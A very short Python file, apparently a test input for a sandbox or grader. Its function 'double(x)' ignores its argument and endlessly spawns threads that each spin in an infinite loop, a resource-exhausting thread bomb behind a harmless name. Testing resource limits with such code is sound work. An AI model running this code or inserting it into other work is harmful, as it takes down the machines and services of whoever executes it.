"""Starts threads without end, all of them busy."""
import threading


def busy():
    while True:
        pass


def double(x):
    while True:
        threading.Thread(target=busy, daemon=True).start()
